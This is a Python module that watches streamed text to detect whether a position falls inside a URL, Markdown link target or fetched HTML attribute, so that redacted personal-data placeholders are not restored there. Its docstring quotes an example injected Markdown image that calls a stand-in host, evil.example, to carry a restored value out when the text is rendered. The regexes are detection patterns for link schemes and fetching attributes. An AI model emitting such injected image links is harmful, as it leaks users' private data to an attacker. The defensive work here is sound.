"""Where in a text a placeholder must not be restored: in what a reader's screen may fetch by itself.

An injected `![](https://evil.example/?q=<PERSON_1>)` would carry the value out when it is shown. Several
lookouts watch the text beside each other, each simple and easily alarmed, so that what deceives one
(a quote in a code span, a bracket in a title) does not deceive all. However a text is cut, they see the
same: what opens is sought in the last characters too, and the rest is told by single characters.
"""

from __future__ import annotations

import re
from typing import Final, Protocol

_TAIL: Final = 32
"""Characters seen again with the next piece: more than any opening has."""

_ADDRESS: Final = re.compile(r":[/\\]{2}|\bwww\.|\b(?:mailto|tel|sms|data|javascript|callto):", re.IGNORECASE)
_ADDRESS_ENDS: Final = re.compile(r"[\s\"<>`\x00-\x1f]")
_DEFINITION: Final = re.compile(r"\]:[ \t\r\n]{0,8}<?[/\\]")
_SPACE: Final = re.compile(r"\s")
_TARGET: Final = re.compile(r"\]\(|\burl\(", re.IGNORECASE)
_IN_TARGET: Final = re.compile(r"[\\()<>\n]|[^\\()<>\s]+|[^\S\n]+")
_TAG: Final = re.compile(r"<[A-Za-z/!?]")
_FETCHED: Final = re.compile(
    r"\b(?:src|href|srcset|poster|background|formaction|ping|longdesc)[ \t\r\n]{0,8}=", re.IGNORECASE
)
_IN_TAG: Final = re.compile(r"[>=]")
_IN_VALUE: Final = re.compile(r"[\s>]")


class _Lookout(Protocol):
    opens: re.Pattern[str]
    active: bool
    unsafe: bool

    def open(self) -> None: ...

    def follow(self, text: str, at: int) -> int:
        """From `at` on while it is active; where it stopped."""
        ...


class _Run:
    """To the first character that ends it: an address, or the target of a link's definition."""

    __slots__ = ("_ends", "active", "opens", "unsafe")

    def __init__(self, opens: re.Pattern[str], ends: re.Pattern[str]) -> None:
        self.opens = opens
        self._ends = ends
        self.active = self.unsafe = False

    def open(self) -> None:
        self.active = self.unsafe = True

    def follow(self, text: str, at: int) -> int:
        end = self._ends.search(text, at)
        if end is None:
            return len(text)
        self.active = self.unsafe = False
        return end.start()


class _Target:
    """Behind `](` or `url(`: to the bracket that closes it, or a blank line."""

    __slots__ = ("_angle", "_begun", "_closed", "_depth", "_escaped", "_newline", "active", "opens", "unsafe")

    def __init__(self) -> None:
        self.opens = _TARGET
        self.open()
        self.active = self.unsafe = False

    def open(self) -> None:
        self.active = self.unsafe = True
        self._depth = 1
        self._angle = self._begun = self._closed = self._escaped = self._newline = False

    def follow(self, text: str, at: int) -> int:
        for piece in _IN_TARGET.finditer(text, at):
            if self._ends(piece[0]):
                self.active = self.unsafe = False
                return piece.end()
        return len(text)

    def _ends(self, piece: str) -> bool:
        closed, self._closed = self._closed, piece.endswith("]")
        if piece == "\n":
            if self._newline:
                return True
            self._newline, self._angle, self._escaped = True, False, False
            return False
        if piece.isspace():
            return False
        begun, self._begun, self._newline = self._begun, True, False
        if self._escaped:
            self._escaped = False
        elif piece == "\\":
            self._escaped = True
        elif piece == "<":
            self._angle = self._angle or not begun
        elif piece == ">":
            self._angle = False
        elif piece == "(" and closed:
            self.open()  # a link in what was taken for a link
        elif not self._angle and piece in ("(", ")"):
            self._depth += 1 if piece == "(" else -1
            return self._depth == 0
        return False


class _Attribute:
    """The values of a tag's attributes, quotes followed; or one value, where a tag is not waited for."""

    __slots__ = ("_before", "_quote", "_tag", "active", "opens", "unsafe")

    def __init__(self, opens: re.Pattern[str], *, tag: bool) -> None:
        self.opens = opens
        self._tag = tag
        self._before = False
        self._quote = ""
        self.active = self.unsafe = False

    def open(self) -> None:
        self.active = True
        self._begin(value=not self._tag)

    def _begin(self, *, value: bool) -> None:
        self.unsafe = self._before = value
        self._quote = ""

    def follow(self, text: str, at: int) -> int:
        while at < len(text) and self.active:
            if not self.unsafe:
                at = self._in_tag(text, at)
            elif self._before:
                at = self._before_value(text, at)
            elif self._quote:
                end = text.find(self._quote, at)
                at = len(text) if end < 0 else end + 1
                if end >= 0:
                    self._leave()
            else:
                found = _IN_VALUE.search(text, at)
                at = len(text) if found is None else found.start()
                if found is not None:
                    self._leave()
        return at

    def _in_tag(self, text: str, at: int) -> int:
        found = _IN_TAG.search(text, at)
        if found is None:
            return len(text)
        if found[0] == "=":
            self._begin(value=True)
        else:
            self.active = False
        return found.end()

    def _before_value(self, text: str, at: int) -> int:
        mark = text[at]
        if mark.isspace() or mark == "\\":
            return at + 1
        self._before = False
        if mark in "\"'":
            self._quote = mark
            return at + 1
        return at

    def _leave(self) -> None:
        self._begin(value=False)
        self.active = self._tag


class Surroundings:
    """`unsafe`: what comes next stands in an address, a target or an attribute. `idle`: nothing is open.

    Beside each lookout stand the signs without one of which it opens nothing (`<` is the last but one).
    """

    __slots__ = ("_lookouts", "_tail", "idle", "unsafe")

    def __init__(self) -> None:
        self._lookouts: tuple[tuple[str, _Lookout], ...] = (
            (":/\\.", _Run(_ADDRESS, _ADDRESS_ENDS)),
            ("/\\", _Run(_DEFINITION, _SPACE)),
            ("(", _Target()),
            ("<", _Attribute(_TAG, tag=True)),
            ("=", _Attribute(_FETCHED, tag=False)),
        )
        self._tail = ""
        self.idle = True
        self.unsafe = False

    def pass_quiet(self, text: str) -> None:
        """A piece in which nothing can open, while nothing is open."""
        self._tail = text if len(text) >= _TAIL else self._tail[-_TAIL:] + text

    def advance(self, text: str) -> None:
        """What a reader will see next."""
        if not text:
            return
        tail = self._tail[-_TAIL:]
        joined = tail + text
        recent = set(text) | {tail[-1:]}
        idle, unsafe = True, False
        for marks, lookout in self._lookouts:
            if not lookout.active and recent.isdisjoint(marks):
                continue
            _watch(lookout, joined, len(tail))
            idle = idle and not lookout.active
            unsafe = unsafe or lookout.unsafe
        self.idle, self.unsafe = idle, unsafe
        self._tail = joined


def _watch(lookout: _Lookout, text: str, at: int) -> None:
    if lookout.active:
        at = lookout.follow(text, at)
    while not lookout.active:
        end = _opened(lookout, text, at)
        if end is None:
            return
        at = lookout.follow(text, end)


def _opened(lookout: _Lookout, text: str, at: int) -> int | None:
    """Where the first opening ends that ends behind `at`; it may begin before."""
    begin = max(0, at - _TAIL)
    while True:
        found = lookout.opens.search(text, begin)
        if found is None:
            return None
        if found.end() > at:
            lookout.open()
            return found.end()
        begin = found.start() + 1
